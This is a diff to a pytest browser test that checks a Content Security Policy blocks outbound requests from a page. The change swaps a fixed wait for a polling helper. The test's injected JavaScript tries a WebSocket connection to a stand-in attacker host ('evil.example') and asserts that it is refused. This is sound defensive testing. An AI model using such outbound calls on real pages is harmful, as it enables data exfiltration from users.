@@ -5,7 +5,7 @@ from __future__ import annotations
 from typing import Any
 
 import pytest
-from browsing import IN_BROWSER, outside
+from browsing import IN_BROWSER, outside, until
 from turns import FakeAssistant, answer
 
 from assistant.values import Answer, Citation, Claim, Turn
@@ -82,8 +82,9 @@ def test_the_browser_itself_refuses_what_would_slip_through(visit, address) -> N
         " () => new Promise((y, n) => { const s = new WebSocket('ws://evil.example/z'); s.onerror = n; s.onopen = y; }),"
         " ]) { try { await go(); out.push('sent'); } catch { out.push('refused'); } } return out; }"
     )
-    page.wait_for_timeout(500)
     assert sent[0] == sent[2] == "refused"
-    refused = [said for said in page.complaints if "Content Security Policy" in said]
-    assert any("1.png" in said for said in refused)
-    assert len(refused) >= 5
+
+    def refused() -> list[str]:
+        return [said for said in page.complaints if "Content Security Policy" in said]
+
+    until(page, lambda: len(refused()) >= 5 and any("1.png" in said for said in refused()))
